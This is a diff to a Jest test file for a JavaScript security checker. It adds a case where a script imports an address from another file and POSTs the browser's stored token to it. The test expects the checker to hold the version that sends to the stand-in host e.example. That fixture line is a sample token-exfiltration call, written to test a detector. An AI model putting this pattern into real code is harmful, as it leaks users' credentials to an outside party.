@@ -1,5 +1,6 @@
 import { describe, expect, it } from '@jest/globals';
 import { checkScript } from '../../src/analysis/checks/javascript.js';
+import { checkScripts } from '../../src/analysis/checks/javascript/check-scripts.js';
 
 const isHeld = (source: string): boolean => checkScript(source).some(({ level }) => level === 'hold');
 
@@ -140,6 +141,22 @@ describe('the checks do not hold a script', () => {
       `const load = () => 1; fetch("https://e.example/?step=" + load.name + JSON.stringify({ a: 1 }));`,
     ],
   ])('that %s', (_what, source) => expect(isHeld(source)).toBe(false));
+
+  it.each([
+    ['shorter', ''],
+    ['longer', '// A comment that makes the file longer than the other one.\n'.repeat(9)],
+  ])('that sends a token to an address of the host from another file, which is %s', (_what, comment) => {
+    const files = (address: string) => [
+      {
+        path: 'send.js',
+        source:
+          'import { API } from "./where.js";\nfetch(API, { method: "POST", body: localStorage.getItem("token") });',
+      },
+      { path: 'where.js', source: `${comment}export const API = ${JSON.stringify(address)};` },
+    ];
+    const levels = (address: string) => checkScripts(files(address)).map(({ level }) => level);
+    expect([levels('/own/save'), levels('https://e.example')]).toEqual([[], ['hold']]);
+  });
 
   it('but warn about one that no browser can run', () =>
     expect(checkScript('const a = <b>;')).toMatchObject([{ level: 'warn', line: 1 }]));
